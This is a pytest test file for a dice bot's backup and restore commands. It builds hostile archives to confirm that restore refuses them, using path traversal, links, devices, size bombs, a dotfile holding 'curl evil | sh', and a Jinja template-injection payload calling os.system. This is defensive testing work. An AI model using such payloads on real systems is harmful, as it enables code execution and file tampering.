"""`referee backup` while a writer runs, and `referee restore`: checked before anything is written.

The running bot is a writer holding the store's lock (in this process, or a child that
appends and checkpoints as fast as it can); the backup never takes the lock.
"""

from __future__ import annotations

import hashlib
import io
import re
import shutil
import signal
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import orjson
import pytest

from referee.base.limits import BackupLimits
from referee.base.posts import Post
from referee.cli import main
from referee.live import backups
from referee.pipeline.flow import Referee
from referee.store.backup import check_store
from referee.store.store import Store
from referee.testing import make_campaign, sheet
from referee.testing.reddit_server import FakeReddit
from referee.testing.worker import SUB, bot_replies, fake_reddit


@pytest.fixture
def campaign(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A campaign folder with Kara, a few rolls and a secret file beside config.toml."""
    folder = tmp_path / "dune"
    opened = make_campaign(folder, [sheet("Kara", owner="alice")])
    referee = Referee(opened)
    for n in range(5):
        referee.referee(Post(f"t1_k{n}", "t3_s", "alice", f"[[roll 1d{n + 4}]]", float(n)))
    opened.close()
    _own_tables(folder)
    (folder / "config.toml").write_text(
        (folder / "config.toml").read_text() + '[secret]\nfile = "secret.txt"\n'
    )
    (folder / "secret.txt").write_text("test-secret\n")
    monkeypatch.delenv("REFEREE_SECRET", raising=False)
    return folder


def _own_tables(folder: Path) -> None:
    """The race and scale tables copied into the campaign's data folder, as `referee new`
    makes them (make_campaign names the repository's by absolute path, which a restore
    into another folder refuses)."""
    config = folder / "config.toml"
    text = config.read_text()
    for key in ("races", "scale"):
        (source,) = re.findall(rf'^{key} = "(.*)"$', text, flags=re.M)
        shutil.copyfile(source, folder / "data" / Path(source).name)
        text = text.replace(f'"{source}"', f'"data/{Path(source).name}"')
    config.write_text(text)


def _backup(folder: Path, out: Path, capsys) -> str:
    assert 0 == main(["--campaign", str(folder), "backup", str(out)])
    return capsys.readouterr().out


def _names(archive: Path) -> list[str]:
    with tarfile.open(archive) as opened:
        return opened.getnames()


def test_a_backup_beside_the_bot_holds_its_last_commit_whole(campaign: Path, tmp_path, capsys):
    """With the writer holding the lock, a change it has not flushed and a batch half
    appended at the journal's end: the backup holds every committed row, none of the
    rest, and no secret, lock or heartbeat."""
    writer = Store(campaign / "data" / "store.json")
    writer.table("characters").put("ghost", {"name": "Ghost"})  # unflushed
    journal = campaign / "data" / "store.ledger.jsonl"
    with journal.open("ab") as handle:
        handle.write(b'{"op":"put","table":"characters","key":"torn","val')  # mid-append
    try:
        said = _backup(campaign, tmp_path / "dune.tar.gz", capsys)
    finally:
        writer.discard()
    names = _names(tmp_path / "dune.tar.gz")
    assert "the store with 5 ledger rows (checked)" in said
    assert {"config.toml", "data/store.json", "data/store.ledger.jsonl"} <= set(names)
    assert not [n for n in names if n.endswith((".lock", "secret.txt", ".status.json"))]


def test_restore_into_a_new_folder_gives_the_campaign_back(campaign, tmp_path, capsys):
    """On another machine: restore into an empty folder (its GMs and its secret are
    new there: listed, applied with --yes), put the secret back, and the campaign
    verifies and lists its characters."""
    _backup(campaign, tmp_path / "dune.tar.gz", capsys)
    moved = tmp_path / "elsewhere"
    restore = ["--campaign", str(moved), "restore", str(tmp_path / "dune.tar.gz")]
    assert 1 == main(restore)
    said = capsys.readouterr().out
    assert "GMs (campaign.gms): adds gm" in said and "run again with --yes" in said
    assert not moved.exists()
    assert 0 == main([*restore, "--yes"])
    assert "the store with 5 ledger rows, chain checked" in capsys.readouterr().out
    (moved / "secret.txt").write_text("test-secret\n")
    assert 0 == main(["--campaign", str(moved), "verify"])
    assert "5 ledger rows: chain checked, 5 rows' dice re-derived" in capsys.readouterr().out
    assert 0 == main(["--campaign", str(moved), "characters"])
    assert "Kara" in capsys.readouterr().out


def test_restore_over_a_campaign_keeps_what_it_replaces(campaign, tmp_path, capsys):
    """Rolls made after the backup are not lost by a restore: the replaced store files
    are kept, as they were, in replaced-<time>/; unchanged files are left alone."""
    _backup(campaign, tmp_path / "dune.tar.gz", capsys)
    with Store(campaign / "data" / "store.json") as store:
        store.ledger.append({"roll_id": "later-1"})
    later = (campaign / "data" / "store.ledger.jsonl").read_bytes()
    assert 0 == main(["--campaign", str(campaign), "restore", str(tmp_path / "dune.tar.gz")])
    said = capsys.readouterr().out
    (kept,) = campaign.glob("replaced-*")
    assert f"kept in {kept}" in said
    journal = "data/store.ledger.jsonl"
    assert f"{journal} -> {campaign / journal} (replaced; the old one is kept as " in said
    assert f"config.toml -> {campaign / 'config.toml'} (already the same, left alone)" in said
    assert later == (kept / "data" / "store.ledger.jsonl").read_bytes()
    assert 5 == check_store(campaign / "data" / "store.json").rows
    assert not (kept / "config.toml").exists()  # the same in both: left in place


def _tampered(archive: Path, out: Path, change) -> Path:
    """A copy of ``archive`` with one member's bytes changed (its manifest left as is,
    or rewritten to match, as a careful forger would)."""
    with tarfile.open(archive) as source, tarfile.open(out, "w:gz") as target:
        members = {m.name: source.extractfile(m).read() for m in source if m.isfile()}
        members = change(members)
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            target.addfile(info, io.BytesIO(data))
    return out


def _forged(members: dict[str, bytes]) -> dict[str, bytes]:
    """A die of the third row changed in the journal, the manifest's sha256 made to fit."""
    import hashlib

    journal = members["data/store.ledger.jsonl"].splitlines(keepends=True)
    rolls = [i for i, line in enumerate(journal) if b'"draws":[[' in line]
    line = journal[rolls[2]]
    at = line.index(b'"draws":[[') + len(b'"draws":[[')
    journal[rolls[2]] = line[:at] + b"9" + line[at:]
    members["data/store.ledger.jsonl"] = b"".join(journal)
    manifest = orjson.loads(members["referee-backup.json"])
    manifest["files"]["data/store.ledger.jsonl"] = hashlib.sha256(
        members["data/store.ledger.jsonl"]
    ).hexdigest()
    members["referee-backup.json"] = orjson.dumps(manifest)
    return members


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_forged, "does not check out"),
        (  # a file changed after the backup was made
            lambda m: {**m, "data/store.index": m["data/store.index"] + b" "},
            "does not match its own list of files",
        ),
        (lambda m: {**m, "../outside.txt": b"x"}, "which a backup never does"),
        (lambda m: {k: v for k, v in m.items() if k != "referee-backup.json"}, "not a referee"),
    ],
)
def test_restore_refuses_a_backup_that_does_not_check_out_and_writes_nothing(
    campaign, tmp_path, capsys, change, reason: str
) -> None:
    """A forged row (its file's sha256 made to fit), a file changed, a name leaving the
    campaign, no manifest: refused with the reason; the campaign is as it was."""
    _backup(campaign, tmp_path / "dune.tar.gz", capsys)
    bad = _tampered(tmp_path / "dune.tar.gz", tmp_path / "bad.tar.gz", change)
    before = {p: p.read_bytes() for p in campaign.rglob("*") if p.is_file()}
    assert 2 == main(["--campaign", str(campaign), "restore", str(bad)])
    err = capsys.readouterr().err
    after = {p: p.read_bytes() for p in campaign.rglob("*") if p.is_file()}
    assert (True, True) == (reason in err, "Nothing was written" in err), err
    assert before == after
    assert not (tmp_path / "outside.txt").exists()


def test_restore_refuses_while_a_bot_runs_on_the_campaign(campaign, tmp_path, capsys):
    """The store's writer holds the lock: restore says to stop it and writes nothing."""
    _backup(campaign, tmp_path / "dune.tar.gz", capsys)
    writer = Store(campaign / "data" / "store.json")
    try:
        assert 2 == main(["--campaign", str(campaign), "restore", str(tmp_path / "dune.tar.gz")])
    finally:
        writer.discard()
    assert "stop it first" in capsys.readouterr().err
    assert [] == list(campaign.glob("replaced-*"))


# A writer as fast as it goes: batches of rows and a table change in one flush, and a
# checkpoint (the sheets file and the index replaced) every few kilobytes of journal.
CHILD = """
import os
import sys
from pathlib import Path
import referee.store.store as module
from referee.store.store import Store

module.CHECKPOINT_BYTES = 4096
store = Store(Path(sys.argv[1]))
n = len(store.ledger)
os.write(1, b"ready\\n")
while True:
    for _ in range(7):
        store.ledger.append({"roll_id": f"r{n}", "pad": "x" * 80})
        n += 1
    store.table("meta").put("count", {"rows": n})
    store.flush(sync=False)
"""


def test_backups_taken_while_a_writer_appends_and_checkpoints_are_never_torn(
    tmp_path: Path, capsys
) -> None:
    """Ten backups taken while another process appends and checkpoints without pause:
    each restores into a store that checks out whole, with its sheets table agreeing
    with its ledger (a flush lands whole across both)."""
    folder = tmp_path / "busy"
    make_campaign(folder).close()
    _own_tables(folder)
    with subprocess.Popen(
        [sys.executable, "-c", CHILD, str(folder / "data" / "store.json")],
        stdout=subprocess.PIPE,
    ) as child:
        counts = _backups_beside(child, folder, tmp_path, capsys)
    assert [rows for rows, _ in counts] == [meta for _, meta in counts]
    assert counts[-1][0] > counts[0][0] > 0  # the writer was writing all along


def _backups_beside(child, folder: Path, tmp_path: Path, capsys) -> list[tuple[int, int]]:
    """Ten backups, each restored and checked, while ``child`` writes; then kill it."""
    assert child.stdout is not None
    try:
        assert b"ready\n" == child.stdout.readline()
        counts = []
        for n in range(10):
            archive = tmp_path / f"busy-{n}.tar.gz"
            _backup(folder, archive, capsys)
            restored = tmp_path / f"restored-{n}"
            assert 0 == main(["--campaign", str(restored), "restore", str(archive), "--yes"])
            capsys.readouterr()
            with Store(restored / "data" / "store.json", read_only=True) as store:
                meta = store.table("meta").get("count") or {"rows": 0}
                counts.append((len(store.ledger), meta["rows"]))
            check_store(restored / "data" / "store.json")
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    return counts


@pytest.fixture
def server() -> Iterator[FakeReddit]:
    """A running FakeReddit with one subreddit."""
    with fake_reddit() as fake:
        yield fake


def test_after_a_restore_the_bot_never_answers_twice_what_it_answered_since_the_backup(
    server: FakeReddit, live, tmp_path: Path, capsys
) -> None:
    """A post answered after the backup was made is read again after the restore (the
    cursors went back with the store): the bot finds its reply instead of posting again,
    and a post written after the restore is answered once."""
    harness = live()
    thread = server.submit(SUB, "alice", "Scene", "Go.")
    first = server.comment(thread, "bob", "[[roll 1d6]]")
    harness.run_until_settled()
    harness.close()
    _backup(harness.folder, tmp_path / "before.tar.gz", capsys)
    harness.start()
    later = server.comment(thread, "bob", "[[roll 1d8]]")
    harness.run_until_settled()
    harness.close()
    assert 0 == main(
        ["--campaign", str(harness.folder), "restore", str(tmp_path / "before.tar.gz")]
    )
    harness.start()
    newest = server.comment(thread, "carol", "[[roll 1d4]]")
    harness.run_until_settled()
    assert {first: 1, later: 1, newest: 1} == dict(bot_replies(server))


# -- a corpus of hostile backups ---------------------------------------------------------


def _tree(root: Path) -> dict[str, tuple]:
    """Everything under ``root``: each file's bytes, each folder's and link's presence,
    and every folder's modification time (a staging folder made and removed shows)."""
    entries = {".": ("dir", root.lstat().st_mtime_ns)}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if path.is_symlink():
            entries[name] = ("link", str(path.readlink()))
        elif path.is_dir():
            entries[name] = ("dir", path.lstat().st_mtime_ns)
        else:
            entries[name] = ("file", path.read_bytes())
    return entries


def _special(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, 0o644
    return info


def _crafted(
    good: Path,
    out: Path,
    files: dict[str, bytes | None] | None = None,
    *,
    specials: tuple[tarfile.TarInfo, ...] = (),
    twice: tuple[tuple[str, bytes], ...] = (),
) -> Path:
    """The backup ``good`` made hostile by a careful forger: ``files`` changed, added
    (or taken out: None), with its manifest rewritten to fit, ``specials`` (links,
    devices) first and ``twice`` (a second copy of a name) last."""
    with tarfile.open(good) as source:
        members = {m.name: source.extractfile(m).read() for m in source if m.isfile()}
    for name, data in (files or {}).items():
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    manifest = orjson.loads(members.pop("referee-backup.json"))
    manifest["files"] = {
        name: hashlib.sha256(data).hexdigest() for name, data in (*members.items(), *twice)
    }
    with tarfile.open(out, "w:gz") as target:
        for info in specials:
            target.addfile(info)
        for name, data in [("referee-backup.json", orjson.dumps(manifest)), *members.items()]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            target.addfile(info, io.BytesIO(data))
        for name, data in twice:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            target.addfile(info, io.BytesIO(data))
    return out


def _config(campaign: Path, *changes: tuple[str, str]) -> bytes:
    """The campaign's config.toml with each ``(old, new)`` text replaced."""
    text = (campaign / "config.toml").read_text()
    for old, new in changes:
        assert old in text
        text = text.replace(old, new)
    return text.encode()


def _hostile_cases(tmp_path: Path, campaign: Path):
    """(what, the archive's changes as _crafted's keywords, what the refusal says)."""
    other = tmp_path / "other"
    return {
        "a name climbing out": ({"data/../../x": b"x"}, {}, "climbs out of its folder"),
        "a name above the archive": ({"../x": b"x"}, {}, "climbs out of its folder"),
        "an absolute name": ({str(other / "x"): b"x"}, {}, "an absolute path"),
        "a symlink, then a file through it": (
            {"data/link/evil": b"x"},
            {"specials": (_special("data/link", tarfile.SYMTYPE, str(other)),)},
            "a symbolic link",
        ),
        "a hard link": (
            {},
            {"specials": (_special("data/h", tarfile.LNKTYPE, str(other / "keep.txt")),)},
            "a hard link",
        ),
        "a device": ({}, {"specials": (_special("data/dev", tarfile.CHRTYPE),)}, "a device"),
        "a FIFO": ({}, {"specials": (_special("data/pipe", tarfile.FIFOTYPE),)}, "a FIFO"),
        "a dotfile": ({"data/.bashrc": b"curl evil | sh\n"}, {}, "a file a backup leaves out"),
        "a name twice": (
            {},
            {"twice": (("config.toml", _config(campaign, ('["gm"]', '["mallory"]'))),)},
            "twice",
        ),
        "an absolute data_dir": (
            {"config.toml": _config(campaign, ('data_dir = "data"', f'data_dir = "{other}"'))},
            {},
            "campaign.data_dir",
        ),
        "a data_dir climbing out": (
            {"config.toml": _config(campaign, ('data_dir = "data"', 'data_dir = "../other"'))},
            {},
            "campaign.data_dir = '../other' climbs out",
        ),
        "an absolute templates_dir": (
            {
                "config.toml": _config(
                    campaign, ("[campaign]\n", f'[campaign]\ntemplates_dir = "{other}"\n')
                ),
                "templates/verdict_dice.md.j2": b"{{ 1 }}",
            },
            {},
            "campaign.templates_dir",
        ),
        "an absolute secret file": (
            {"config.toml": _config(campaign, ('file = "secret.txt"', f'file = "{other}/k"'))},
            {},
            "secret.file",
        ),
        "a file landing on the secret": (
            {
                "config.toml": _config(campaign, ('data_dir = "data"', 'data_dir = "."')),
                "data/secret.txt": b"a secret the sender knows\n",
            },
            {},
            "would replace the campaign secret",
        ),
    }


@pytest.fixture
def hostile(campaign: Path, tmp_path: Path, capsys):
    """Restore one crafted archive into the campaign: the refusal's message, with the
    tree around the campaign (its siblings, the campaign itself) checked unchanged."""
    _backup(campaign, tmp_path / "dune.tar.gz", capsys)
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "keep.txt").write_text("the neighbour's\n")

    def attempt(files, keywords, *, code: int = 2) -> str:
        bad = _crafted(tmp_path / "dune.tar.gz", tmp_path / "bad.tar.gz", files, **keywords)
        before = _tree(tmp_path)
        assert code == main(["--campaign", str(campaign), "restore", str(bad)])
        said = capsys.readouterr()
        assert before == _tree(tmp_path), said
        return said.err + said.out

    return attempt


HOSTILE = [
    "a name climbing out",
    "a name above the archive",
    "an absolute name",
    "a symlink, then a file through it",
    "a hard link",
    "a device",
    "a FIFO",
    "a dotfile",
    "a name twice",
    "an absolute data_dir",
    "a data_dir climbing out",
    "an absolute templates_dir",
    "an absolute secret file",
    "a file landing on the secret",
]


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_backup_is_refused_with_its_reason_and_nothing_is_written(
    hostile, campaign: Path, tmp_path: Path, what: str
) -> None:
    """Names leaving the campaign, links, devices, a name twice, a config.toml whose
    paths leave the campaign, a file landing on the secret: refused before anything is
    written, in the campaign or beside it (not even a staging folder)."""
    files, keywords, reason = _hostile_cases(tmp_path, campaign)[what]
    said = hostile(files, keywords)
    assert reason in said and "Nothing was written" in said, said


def test_a_zip_is_refused_as_no_backup(hostile, tmp_path: Path, capsys) -> None:
    """A backup is a .tar.gz: anything else is refused before a folder is made."""
    import zipfile

    with zipfile.ZipFile(tmp_path / "bad.zip", "w") as archive:
        archive.writestr("config.toml", "")
    before = _tree(tmp_path)
    assert 2 == main(["--campaign", str(tmp_path / "dune"), "restore", str(tmp_path / "bad.zip")])
    assert before == _tree(tmp_path)
    assert "a zip or a plain tar is not one" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("caps", "files", "reason"),
    [
        (  # a bomb: 3 MiB of zeros in a few kilobytes, over the 1 MiB it may unpack to
            BackupLimits(max_unpacked_bytes=1 << 20),
            {"data/zeros.bin": bytes(3 << 20)},
            "unpacks to more than 1,048,576 bytes",
        ),
        (  # many files, each small, together past the cap: counted as they unpack
            BackupLimits(max_unpacked_bytes=1 << 20),
            {f"data/part-{n}.bin": bytes(100_000) for n in range(12)},
            "unpacks to more than 1,048,576 bytes",
        ),
        (
            BackupLimits(max_file_bytes=1 << 20),
            {"data/zeros.bin": bytes(2 << 20)},
            "more than one file of a backup may be (1,048,576)",
        ),
        (
            BackupLimits(max_files=20),
            {f"data/threads/{n}.json": b"{}" for n in range(30)},
            "more than 20 files",
        ),
        (BackupLimits(max_archive_bytes=2000), {}, "more than a backup may be (2,000)"),
    ],
    ids=["bomb", "many-parts", "one-large-file", "too-many-files", "compressed-size"],
)
def test_a_backup_past_its_caps_is_refused_and_writes_nothing(
    hostile, monkeypatch, caps: BackupLimits, files, reason: str
) -> None:
    """The caps hold while the archive unpacks, whatever its headers say; nothing lands
    anywhere, not even in a staging folder."""
    monkeypatch.setattr(backups, "BACKUP_LIMITS", caps)
    said = hostile(files, {})
    assert reason in said and "Nothing was written" in said, said


@pytest.mark.parametrize(
    ("files", "listed"),
    [
        (  # a template that reaches Python's globals: it must never come in unseen
            {
                "templates/verdict_dice.md.j2": b"{% set _ = cycler.__init__.__globals__"
                b".os.system('touch pwned') %}"
            },
            ["a template (new): templates/verdict_dice.md.j2 -> "],
        ),
        (
            {"config.toml": None},  # filled in below: the GMs changed
            ["GMs (campaign.gms): adds mallory; removes gm"],
        ),
        (
            {"config.toml": None},  # the secret's commitment and the subreddits changed
            [
                "the secret's commitment (secret.sha256): none -> " + "ab" * 32,
                "subreddits (reddit.subreddits): adds elsewhere",
            ],
        ),
        (
            {"data/store.requests/1-approve.json": b"{}"},
            ["a request from the shell (new): data/store.requests/1-approve.json"],
        ),
    ],
    ids=["template", "gms", "secret-and-subreddits", "request"],
)
def test_what_matters_is_listed_and_applied_only_with_yes(
    hostile, campaign: Path, tmp_path: Path, capsys, files, listed: list[str]
) -> None:
    """Templates, shell requests, GMs, the secret's commitment, subreddits: listed, and
    without --yes nothing is written; with --yes applied, and said again."""
    if "GMs" in listed[0]:
        files = {"config.toml": _config(campaign, ('["gm"]', '["mallory"]'))}
    elif "commitment" in listed[0]:
        files = {
            "config.toml": _config(
                campaign,
                ('file = "secret.txt"', f'file = "secret.txt"\nsha256 = "{"ab" * 32}"'),
            )
            + b'[reddit]\nsubreddits = ["elsewhere"]\n'
        }
    said = hostile(files, {}, code=1)
    assert all(line in said for line in listed), said
    assert "Nothing was written: read the list, then run again with --yes to apply." in said
    outside = {k: v for k, v in _tree(tmp_path).items() if not k.startswith("dune")}
    assert 0 == main(
        ["--campaign", str(campaign), "restore", str(tmp_path / "bad.tar.gz"), "--yes"]
    )
    said = capsys.readouterr().out
    assert "What changed that matters:" in said and all(line in said for line in listed)
    for name, data in files.items():
        destination = campaign / name
        assert data == destination.read_bytes()
        assert f"{name} -> {destination} (" in said
    assert outside == {k: v for k, v in _tree(tmp_path).items() if not k.startswith("dune")}


def test_the_caps_are_the_ones_the_backups_page_states() -> None:
    """docs/gm/operating.md states the caps a restore holds a backup to: these."""
    page = (Path(__file__).resolve().parents[2] / "docs" / "gm" / "operating.md").read_text()
    caps = BackupLimits()
    for label, value in (
        ("the archive itself", f"{caps.max_archive_bytes >> 20} MiB"),
        ("all it unpacks to", f"{caps.max_unpacked_bytes >> 30} GiB"),
        ("any one file in it", f"{caps.max_file_bytes >> 30} GiB"),
        ("files in it", f"{caps.max_files:,}"),
    ):
        assert f"| {label} | {value} |" in page
